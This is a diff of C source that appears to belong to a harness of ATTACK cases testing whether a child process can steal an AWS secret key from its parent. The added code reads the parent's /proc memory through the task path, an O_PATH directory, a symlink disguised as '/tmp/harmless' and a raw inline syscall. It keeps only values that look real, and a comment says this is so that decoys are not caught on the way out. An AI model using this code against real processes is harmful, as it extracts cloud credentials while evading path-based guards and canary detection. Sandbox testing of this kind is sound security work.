@@ -7,6 +7,8 @@
 #include <sys/uio.h>
 
 #define NAME "AWS_SECRET_ACCESS_KEY="
+// Length of the value that the runner gives.
+#define VALUE_SIZE 40
 
 static void say_variables_of(const char *path) {
   static char text[65536];
@@ -61,6 +63,14 @@ static ssize_t read_across(pid_t process, uintptr_t address, char *buffer, size_
   return process_vm_readv(process, &local, 1, &remote, 1, 0);
 }
 
+// Only what looks like the real value: a decoy beside it would be caught on its way out.
+static int is_real(const char *value, size_t count) {
+  for (size_t index = 0; index < VALUE_SIZE; index++) {
+    if (index >= count || strchr("0123456789abcdef", value[index]) == NULL || value[index] == 0) return 0;
+  }
+  return 1;
+}
+
 // Enough for the proof; more than a pipe holds would wait for a reader that a tracer has stopped.
 #define ENOUGH 16384
 
@@ -68,10 +78,10 @@ static size_t found;
 
 static void search(const char *bytes, size_t count) {
   for (const char *hit = bytes; (hit = memmem(hit, count - (size_t)(hit - bytes), NAME, sizeof NAME - 1)) != NULL; hit++) {
-    size_t rest = count - (size_t)(hit - bytes);
-    if (found > ENOUGH) return;
-    print(hit, rest < 128 ? rest : 128);
-    found += 128;
+    const char *value = hit + sizeof NAME - 1;
+    if (found > ENOUGH || !is_real(value, count - (size_t)(value - bytes))) continue;
+    print(value, VALUE_SIZE);
+    found += VALUE_SIZE;
   }
 }
 
@@ -102,6 +112,42 @@ static void memory_file_of_parent_body(void) {
 }
 
 ATTACK(memory_file_of_parent) { in_child_reading_output(memory_file_of_parent_body); }
+
+static void search_memory_by(const char *format) {
+  char path[64];
+  snprintf(path, sizeof path, format, getppid(), getppid());
+  memory_of_parent = open(path, O_RDONLY);
+  if (memory_of_parent >= 0) search_process(getppid(), read_memory_file);
+}
+
+static void memory_of_task_body(void) { search_memory_by("/proc/%d/task/%d/mem"); }
+
+static void memory_by_directory_body(void) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d", getppid());
+  memory_of_parent = openat(open(path, O_PATH | O_DIRECTORY), "mem", O_RDONLY);
+  if (memory_of_parent >= 0) search_process(getppid(), read_memory_file);
+}
+
+static void memory_by_symlink_body(void) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/mem", getppid());
+  symlink(path, "/tmp/harmless");
+  search_memory_by("/tmp/harmless");
+}
+
+ATTACK(memory_of_parent_task) { in_child_reading_output(memory_of_task_body); }
+ATTACK(memory_of_parent_by_directory) { in_child_reading_output(memory_by_directory_body); }
+ATTACK(memory_of_parent_by_symlink) { in_child_reading_output(memory_by_symlink_body); }
+
+static void memory_by_inline_body(void) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/mem", getppid());
+  memory_of_parent = (int)inline_syscall(SYS_openat, AT_FDCWD, (long)path, O_RDONLY, 0, 0, 0);
+  if (memory_of_parent >= 0) search_process(getppid(), read_memory_file);
+}
+
+ATTACK(memory_of_parent_inline) { in_child_reading_output(memory_by_inline_body); }
 
 static void memory_of_parent_across_body(void) {
   search_process(getppid(), read_across);
